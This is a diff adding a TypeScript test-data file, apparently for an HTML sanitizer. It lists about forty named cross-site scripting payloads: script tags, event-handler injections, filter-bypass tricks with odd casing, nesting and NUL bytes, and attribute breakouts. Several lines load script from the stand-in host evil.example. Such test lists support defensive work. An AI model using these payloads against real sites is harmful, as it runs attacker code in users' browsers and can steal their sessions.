@@ -1,0 +1,57 @@
+import type { Payload } from "./payload.ts";
+
+/** Elements that run something, and their handlers. */
+export const SCRIPTS: readonly Payload[] = [
+  ["script", "<script>alert(1)</script>"],
+  ["script in a paragraph", "Hello <script>alert(1)</script> world"],
+  ["script in capitals", "<ScRiPt>alert(1)</sCrIpT>"],
+  ["script from elsewhere", '<script src="https://evil.example/a.js"></script>'],
+  ["script from a data URL", '<script src="data:text/javascript,alert(1)"></script>'],
+  [
+    "script of the page's own origin",
+    '<script src="/proxy?url=https://evil.example/a.js"></script>',
+  ],
+  ["script without an end", "<script>alert(1)"],
+  ["script in script", "<scr<script>ipt>alert(1)</scr</script>ipt>"],
+  ["script with a slash", "<script/x>alert(1)</script/x>"],
+  ["script with a line end in its name", "<script\n>alert(1)</script\n>"],
+  ["module", '<script type="module">import("https://evil.example/a.js")</script>'],
+  [
+    "import map",
+    '<script type="importmap">{"imports":{"/page/":"https://evil.example/"}}</script>',
+  ],
+  [
+    "speculation rules",
+    '<script type="speculationrules">{"prerender":[{"urls":["https://evil.example/"]}]}</script>',
+  ],
+  ["error of a picture", "<img src=x onerror=alert(1)>"],
+  ["error of a picture, quoted", `<img src='x' onerror="alert(1)">`],
+  ["error of a picture without blanks", "<img/src=x/onerror=alert(1)>"],
+  ["error of a picture with a backtick", "<img src=`x` onerror=`alert(1)`>"],
+  ["load of the body", "<body onload=alert(1)>"],
+  ["page that is shown", "<body onpageshow=alert(1)>"],
+  ["focus of an input", "<input autofocus onfocus=alert(1)>"],
+  ["focus of a select", "<select autofocus onfocus=alert(1)><option>a</select>"],
+  ["start of a marquee", "<marquee onstart=alert(1)>a</marquee>"],
+  ["toggle of details", "<details open ontoggle=alert(1)><summary>a</summary></details>"],
+  ["error of audio", "<audio src=x onerror=alert(1)></audio>"],
+  ["error of video", "<video><source onerror=alert(1)></video>"],
+  [
+    "animation",
+    "<style>@keyframes a{}</style><p style='animation:a' onanimationstart=alert(1)>b</p>",
+  ],
+  ["transition", "<p style='transition:color 1s' ontransitionend=alert(1)>a</p>"],
+  ["popover", "<button popovertarget=a>b</button><p id=a popover onbeforetoggle=alert(1)>c</p>"],
+  ["pointer", "<p onpointerover=alert(1) onmouseenter=alert(1)>a</p>"],
+  ["scroll", "<p onscroll=alert(1) style='overflow:scroll;height:1px'>a<br>b<br>c</p>"],
+  ["custom element", "<x onclick=alert(1) tabindex=0 id=x autofocus onfocus=alert(1)>a</x>"],
+  [
+    "content that appears",
+    "<p oncontentvisibilityautostatechange=alert(1) style='content-visibility:auto'>a</p>",
+  ],
+  ["handler that ends an attribute", '" onmouseover="alert(1)'],
+  ["handler that ends an attribute, with a tag", '"><img src=x onerror=alert(1)>'],
+  ["handler with a NUL", "<img src=x onerror\u0000=alert(1)>"],
+  ["tag with a NUL", "<scr\u0000ipt>alert(1)</scr\u0000ipt>"],
+  ["frameset", "<frameset onload=alert(1)><frame src=javascript:alert(1)></frameset>"],
+];
